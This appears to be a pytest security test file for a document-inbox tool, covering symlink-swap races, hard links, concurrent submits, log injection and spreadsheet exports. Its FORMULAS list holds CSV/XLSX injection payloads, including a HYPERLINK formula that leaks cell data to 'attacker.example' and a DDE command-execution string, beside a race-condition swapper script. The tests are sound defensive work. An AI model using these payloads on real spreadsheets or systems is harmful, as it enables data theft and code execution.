"""Trust, round 3: what an attacker with write access to the inbox, or a bad day in
production, does to the inbox and its exports. Each test failed before its fix."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from docintel.store.db import session_scope
from docintel.store.schema import Document, StepRun
from docintel.watcher.ingest import CLAIMS, Refused, ingest
from docintel.watcher.watch import InboxWatcher
from tests.helpers import process, wait_for

# Swaps two names atomically (renameat2 RENAME_EXCHANGE) in a loop, in a process of its
# own so that it runs beside the watcher, not between its Python steps.
SWAPPER = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
a, b, until = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2]), sys.argv[3]
count = int(sys.argv[4]) if len(sys.argv) > 4 else 0
n = 0
while (count and n < count) or (not count and not os.path.exists(until)):
    if libc.renameat2(-100, a, -100, b, 2) != 0:
        raise OSError(ctypes.get_errno(), 'renameat2')
    n += 1
print(n)
"""


# Claims the inbox's sub/f0.txt .. f19.txt over and over for argv[1] seconds.
CLAIMER = """
import sys, time
from docintel.config import get_settings
from docintel.watcher.ingest import ingest
settings = get_settings()
inbox, end, tries = settings.inbox_dir, time.monotonic() + float(sys.argv[1]), 0
while time.monotonic() < end:
    for i in range(20):
        tries += 1
        try:
            ingest(inbox / "sub" / f"f{i}.txt", settings, inbox=inbox)
        except Exception:
            pass
print(tries)
"""


def _swapper(a: Path, b: Path, until: Path, count: int = 0) -> subprocess.Popen:
    args = [sys.executable, "-c", SWAPPER, str(a), str(b), str(until), str(count)]
    return subprocess.Popen(args, stdout=subprocess.PIPE, text=True)


def _documents(settings) -> list[Document]:
    with session_scope(settings.db_url) as s:
        docs = list(s.scalars(select(Document).order_by(Document.id)))
        s.expunge_all()
        return docs


def _watching(settings, *, polling: bool):
    settings.inbox_dir.mkdir(parents=True, exist_ok=True)
    watcher = InboxWatcher(settings, polling=polling)
    thread = threading.Thread(target=watcher.run, kwargs={"tick": 0.02}, daemon=True)
    thread.start()
    return watcher, thread


def _secrets(outside: Path, n: int) -> dict[Path, bytes]:
    outside.mkdir()
    found = {}
    for i in range(n):
        path = outside / f"f{i}.txt"
        path.write_bytes(f"SECRET {i}: the payroll of the board, not for the inbox\n".encode())
        found[path] = path.read_bytes()
    return found


def _nothing_outside_was_taken(settings, secrets: dict[Path, bytes]) -> None:
    for path, data in secrets.items():
        assert path.read_bytes() == data, f"{path} was moved or changed"
    shas = {hashlib.sha256(d).hexdigest() for d in secrets.values()}
    assert not [d.name for d in _documents(settings) if d.sha256 in shas]
    kept = [settings.archive_dir, settings.duplicates_dir, settings.inbox_dir / CLAIMS]
    for stored in (p for folder in kept for p in folder.rglob("*")):
        if stored.is_file():
            assert b"SECRET" not in stored.read_bytes(), f"{stored} holds a file from outside"


@pytest.mark.parametrize("polling", [False, True], ids=["inotify", "polling"])
def test_a_folder_swapped_for_a_link_never_takes_a_file_from_outside(embedded, tmp_path, polling):
    """Row 1: an inbox folder and a link to a folder outside are exchanged atomically, over
    and over, while the watcher (and a loop of claims beside it) take the folder's files.
    Nothing outside is read, archived or removed; the inbox's own files are all taken."""
    embedded.stable_seconds = 0.0
    embedded.poll_interval = 0.05
    inbox = embedded.inbox_dir
    secrets = _secrets(tmp_path / "outside", 20)
    (inbox / "sub").mkdir(parents=True)
    for i in range(20):
        (inbox / "sub" / f"f{i}.txt").write_text(f"inside {i}: a letter to file\n")
    (inbox / ".link").symlink_to(tmp_path / "outside")
    stop = tmp_path / "stop"
    swapper = _swapper(inbox / "sub", inbox / ".link", stop)
    watcher, thread = _watching(embedded, polling=polling)
    try:  # a second taker, in a process of its own, claims in a tight loop beside the watcher
        env = {**os.environ, "DOCINTEL_HOME": str(embedded.home), "DOCINTEL_BROKER_URL": ""}
        claims = subprocess.run(
            [sys.executable, "-c", CLAIMER, "3"], env=env, capture_output=True, text=True
        )
        assert claims.returncode == 0, claims.stderr[-2000:]
    finally:
        stop.touch()
        swaps = int(swapper.communicate(timeout=30)[0])
    assert swaps > 1000
    if (inbox / "sub").is_symlink():  # leave the real folder in its place
        os.rename(inbox / "sub", inbox / ".tmp-link")
        os.rename(inbox / ".link", inbox / "sub")
    try:
        assert wait_for(lambda: not list((inbox / "sub").iterdir()), 30), "inbox files left"
    finally:
        watcher.stop()
        thread.join(10)
    _nothing_outside_was_taken(embedded, secrets)
    inside = {d.name for d in _documents(embedded) if d.status in ("queued", "duplicate")}
    assert {f"f{i}.txt" for i in range(20)} <= inside


def test_submit_under_the_swap_race_moves_and_deletes_nothing(embedded, tmp_path):
    """Row 1 for `submit`: a person's files are copied, never moved or removed, whatever
    the folder they are named through turns into."""
    from docintel.cli import app

    secrets = _secrets(tmp_path / "outside", 5)
    mine = tmp_path / "mine"
    (mine / "sub").mkdir(parents=True)
    for i in range(5):
        (mine / "sub" / f"f{i}.txt").write_text(f"mine {i}\n")
    before = {p: p.read_bytes() for p in (mine / "sub").iterdir()}
    (mine / ".link").symlink_to(tmp_path / "outside")
    stop = tmp_path / "stop"
    swapper = _swapper(mine / "sub", mine / ".link", stop)
    try:
        for _ in range(5):
            for i in range(5):
                CliRunner().invoke(app, ["submit", str(mine / "sub" / f"f{i}.txt")])
    finally:
        stop.touch()
        swapper.communicate(timeout=30)
    if (mine / "sub").is_symlink():
        os.rename(mine / "sub", mine / ".tmp")
        os.rename(mine / ".link", mine / "sub")
    for path, data in secrets.items():
        assert path.read_bytes() == data
    assert {p: p.read_bytes() for p in (mine / "sub").iterdir()} == before
    assert not list(embedded.duplicates_dir.glob("*")) if embedded.duplicates_dir.exists() else True


def test_a_hard_link_to_a_file_outside_is_refused(embedded, tmp_path):
    """Row 3: a second name, in the inbox, for a file outside it is not read."""
    secrets = _secrets(tmp_path / "outside", 1)
    (outside,) = secrets
    inbox = embedded.inbox_dir
    inbox.mkdir(parents=True)
    os.link(outside, inbox / "payroll.txt")
    with pytest.raises(Refused, match="hard links"):
        ingest(inbox / "payroll.txt", embedded, inbox=inbox)
    assert (inbox / "payroll.txt").exists() and outside.read_bytes() == secrets[outside]
    assert not list((inbox / CLAIMS).glob("[!.]*"))
    embedded.stable_seconds = 0.1
    watcher, thread = _watching(embedded, polling=False)
    try:
        assert wait_for(lambda: watcher._refused, 10)
    finally:
        watcher.stop()
        thread.join(10)
    _nothing_outside_was_taken(embedded, secrets)


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTAB",
    "\r=1",
]


def test_exports_carry_formula_text_inert_in_csv_and_xlsx(embedded, tmp_path):
    """Row 2: field values that start like formulas are text in the exported CSV (a
    leading apostrophe, as OWASP says) and string cells in XLSX; a plain negative number
    stays a number."""
    import csv
    import zipfile

    import openpyxl

    from docintel.cli import app
    from docintel.store.profiles import correct_field
    from tests.test_profiles import us_invoice

    for n, value in enumerate(FORMULAS):
        pdf = us_invoice(tmp_path / f"inv{n}.pdf", total=f"${1000 + n}.50")
        doc_id = process(pdf, embedded)["document"]["id"]
        with session_scope(embedded.db_url) as s:  # as a person's correction is stored
            correct_field(s, doc_id, "vendor", value)
    run = CliRunner().invoke(
        app, ["export", "--doc-type", "invoice", "--out", str(tmp_path / "x.csv")]
    )
    assert run.exit_code == 0, run.output
    with (tmp_path / "x.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["vendor"] for r in rows) == sorted("'" + v for v in FORMULAS)
    assert all(not r["total"].startswith("'") for r in rows)
    run = CliRunner().invoke(
        app,
        ["export", "--doc-type", "invoice", "--format", "xlsx", "--out", str(tmp_path / "x.xlsx")],
    )
    assert run.exit_code == 0, run.output
    with zipfile.ZipFile(tmp_path / "x.xlsx") as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    header, *cells = list(book["documents"].iter_rows())
    column = [c.value for c in header].index("vendor")
    assert sorted(row[column].value for row in cells) == sorted(FORMULAS)
    assert all(row[column].data_type == "s" for row in cells)
    total = [c.value for c in header].index("total")
    assert all(isinstance(row[total].value, int | float) for row in cells)


def _route_messages(redis_url: str) -> dict[str, int]:
    """How many `route` tasks wait in the broker, by sha256."""
    import base64
    import json

    import redis

    client = redis.Redis.from_url(redis_url)
    sent: dict[str, int] = {}
    for key in client.keys("cpu*"):
        for raw in client.lrange(key, 0, -1):
            message = json.loads(raw)
            if message["headers"]["task"] != "docintel.route":
                continue
            args, _kwargs, _embed = json.loads(base64.b64decode(message["body"]))
            sent[args[0]] = sent.get(args[0], 0) + 1
    return sent


# One process imports docintel once and forks a `docintel submit` per file, all at once:
# thirty processes racing on the same PostgreSQL rows, without thirty interpreter starts.
SUBMITS = """
import os, sys
from typer.testing import CliRunner
from docintel.cli import app
import docintel.watcher.ingest, docintel.worker.app  # what submit imports, before the fork
children = []
for path in sys.argv[1:]:
    pid = os.fork()
    if pid == 0:
        result = CliRunner().invoke(app, ["submit", "--json", path])
        if result.exit_code:
            sys.stderr.write(result.output + repr(result.exception))
        os._exit(result.exit_code)
    children.append(pid)
print(" ".join(str(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])) for pid in children))
"""


def test_thirty_concurrent_submits_leave_every_file_in_place(distributed, redis_url, tmp_path):
    """Row 4: 30 `submit`s at once, ten contents three times each: every source file stays
    where it was, unchanged; nothing goes to duplicates/; each command succeeds; each
    content's route is sent once."""
    sources = tmp_path / "mine"
    sources.mkdir()
    files = []
    for n in range(30):
        path = sources / f"letter-{n}.txt"
        path.write_text(f"Letter {n % 10}: please file this under contracts.\n" * 20)
        files.append(path)
    before = {p: p.read_bytes() for p in files}
    run = subprocess.run(
        [sys.executable, "-c", SUBMITS, *map(str, files)], capture_output=True, text=True
    )
    assert run.returncode == 0, run.stderr[-3000:]
    assert run.stdout.split() == ["0"] * 30, run.stdout
    assert {p: p.read_bytes() for p in files} == before
    dups = distributed.duplicates_dir
    assert not (dups.exists() and list(dups.iterdir()))
    docs = _documents(distributed)
    assert len(docs) == 10 and {d.status for d in docs} == {"queued"}
    assert _route_messages(redis_url) == {d.sha256: 1 for d in docs}


WRITER = """
import sys, time
with open(sys.argv[1], 'wb') as f:
    f.write(b'A' * 1_020_000); f.flush()
    time.sleep(3.5)
    f.write(b'B' * 1_020_000); f.flush()
"""


@pytest.mark.parametrize("polling", [False, True], ids=["inotify", "polling"])
def test_a_writer_that_pauses_past_the_stable_time_is_stored_whole(embedded, polling):
    """Row 5: a copy that stops for 3.5 s (the stable time is 2 s) with its file still
    open is not taken until it is closed: the archive holds all 2,040,000 bytes."""
    embedded.stable_seconds = 2.0
    embedded.poll_interval = 0.2
    watcher, thread = _watching(embedded, polling=polling)
    target = embedded.inbox_dir / "scan-batch.bin"
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(target)])
    try:
        writer.wait(30)
        assert wait_for(lambda: [d for d in _documents(embedded) if d.status == "queued"], 20)
    finally:
        watcher.stop()
        thread.join(10)
    (doc,) = _documents(embedded)
    assert doc.size == 2_040_000
    assert Path(doc.archive_path).read_bytes() == b"A" * 1_020_000 + b"B" * 1_020_000


def test_the_watcher_takes_a_file_at_once_after_a_storm_of_link_swaps(embedded, tmp_path):
    """Row 6: 1,000 swaps of an inbox folder with a dot-named link to a large tree (the
    system's /usr): the watcher stays attentive and takes a file dropped after the storm
    within 10 s. Links are never watched, so each swap costs a name, not a tree walk."""
    embedded.stable_seconds = 0.2
    inbox = embedded.inbox_dir
    (inbox / "sub").mkdir(parents=True)
    (inbox / ".big").symlink_to("/usr")
    watcher, thread = _watching(embedded, polling=False)
    try:
        swapper = _swapper(inbox / "sub", inbox / ".big", tmp_path / "never", count=1000)
        assert int(swapper.communicate(timeout=60)[0]) == 1000
        dropped = time.monotonic()
        (inbox / "after-the-storm.txt").write_text("taken at once\n")
        assert wait_for(
            lambda: any(d.name == "after-the-storm.txt" for d in _documents(embedded)), 10
        )
        taken = time.monotonic() - dropped
    finally:
        watcher.stop()
        thread.join(10)
    assert taken < 10
    with session_scope(embedded.db_url) as s:  # the link was refused, /usr never read
        assert not [d for d in s.scalars(select(Document)) if d.source_path.startswith("/usr")]


def test_a_long_recording_is_read_in_bounded_blocks(tmp_path):
    """Row 7 (the figure is bench/audio_memory.py's): route keeps a recording's loudness
    and speech spans, never its samples: 20 minutes of 22.05 kHz audio (53 MB once decoded
    to 16 kHz) are heard with well under that held at any moment."""
    import tracemalloc

    import numpy as np
    import soundfile as sf

    from docintel.pipeline.audio.signal import listen, plan_heard

    path = tmp_path / "long.flac"
    rng = np.random.default_rng(3)
    with sf.SoundFile(path, "w", samplerate=22050, channels=1, format="FLAC") as out:
        for _minute in range(20):
            t = np.arange(22050 * 60) / 22050
            talk = (np.sin(2 * np.pi * 0.1 * t) > 0) * rng.standard_normal(len(t)) * 0.2
            out.write((talk + rng.standard_normal(len(t)) * 0.001).astype(np.float32))
    tracemalloc.start()
    try:
        heard = listen(path, 2.0, "energy")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert abs(heard.duration_s - 1200) < 0.5
    windows, _skipped = plan_heard(heard)
    assert len(windows) >= 100  # the speech every ten seconds was found
    assert peak < 20 * 2**20, f"{peak / 2**20:.0f} MiB held at once"


@pytest.mark.parametrize(
    "make, says",
    [
        ("encrypted_zip", "is encrypted (password-protected)"),
        ("truncated_jpeg", "is damaged or cut short"),
        ("billion_laughs_xlsx", "entity declarations"),
        ("undefined_entity_xlsx", "entity declarations"),
    ],
)
def test_a_bad_file_fails_once_with_what_to_do(embedded, tmp_path, make, says):
    """Row 8: an encrypted ZIP, a truncated JPEG, an XML entity bomb in an XLSX and an
    undefined entity fail on the first attempt, with the reason and what to do; never
    retried, never called a bug."""
    from docintel.testkit import bad_inputs

    suffix = {"encrypted_zip": ".zip", "truncated_jpeg": ".jpg"}.get(make, ".xlsx")
    path = getattr(bad_inputs, make)(tmp_path / f"bad{suffix}")
    result = process(path, embedded)["document"]
    assert result["status"] == "failed"
    assert says in result["error"] and "drop it again" in result["error"]
    assert "bug" not in result["error"] and "failed 3 times" not in result["error"]
    with session_scope(embedded.db_url) as s:
        runs = list(s.scalars(select(StepRun).where(StepRun.document_id == result["id"])))
    assert runs and all(r.attempts == 1 for r in runs)


def test_a_page_image_of_a_text_document_is_a_404_with_a_reason(api_settings, tmp_path):
    """Row 9: an HTML document's pages are text; asking for their image is a 404 that
    says so (it was a 500), and the document page asks for no image it cannot have."""
    from tests.apiserver import make_token, serving

    html = tmp_path / "notice.html"
    html.write_text("<html><body><h1>Notice</h1><p>The office is closed on Friday.</p></body>")
    token = make_token(api_settings, "reader")
    with serving(api_settings) as served, served.client(token) as c:
        with html.open("rb") as f:
            doc = c.post("/v1/documents", files={"file": ("notice.html", f)}).json()
        assert wait_for(
            lambda: c.get(f"/v1/documents/{doc['id']}").json()["document"]["status"] == "done", 60
        )
        image = c.get(f"/v1/documents/{doc['id']}/pages/1/image")
        assert image.status_code == 404 and "has no image" in image.json()["detail"]
        page = c.get(f"/documents/{doc['id']}")
        assert page.status_code == 200 and "/pages/1/image" not in page.text


def test_control_characters_in_a_name_are_escaped_in_the_log(embedded, capsys):
    """Row 10: a file name with a newline, ESC and BEL cannot forge a log line or drive
    the terminal that reads the log."""
    import logging

    from docintel.logs import setup_logging

    inbox = embedded.inbox_dir
    inbox.mkdir(parents=True)
    name = "memo\nFAKE LOG LINE: document 99 -> done \x1b[31mred\x07.txt"
    (inbox / name).write_text("a memo\n")
    setup_logging("INFO")
    try:
        InboxWatcher(embedded).take(inbox / name)
        logging.getLogger("docintel.watcher").warning("refused: %s", inbox / name)
    finally:
        logging.getLogger().handlers.clear()
    err = capsys.readouterr().err
    assert "memo\\nFAKE LOG LINE" in err and "\\x1b[31mred\\x07" in err
    assert "\x1b" not in err and "\x07" not in err
    assert not [line for line in err.splitlines() if line.startswith("FAKE LOG LINE")]


def test_a_cut_off_upload_leaves_no_traceback(api_settings, capfd):
    """Row 11: a client that goes away mid-upload is a line in the log, not a traceback."""
    import socket

    from tests.apiserver import make_token, serving

    token = make_token(api_settings, "writer")
    with serving(api_settings) as served:
        host, port = served.url.removeprefix("http://").split(":")
        body = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n'
        head = (
            f"POST /v1/documents HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\n"
            "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 1000000\r\n\r\n"
        ).encode()
        with socket.create_connection((host, int(port))) as sock:
            sock.sendall(head + body + b"%PDF-1.4 " * 1000)
            time.sleep(0.5)
        time.sleep(1.0)
        with served.client(token) as c:
            assert c.get("/healthz").status_code == 200
    err = capfd.readouterr().err
    assert "Exception in ASGI application" not in err and "Traceback" not in err
    tmp = api_settings.archive_dir / "tmp"
    assert not (tmp.exists() and [p for p in tmp.rglob("*") if p.is_file()])
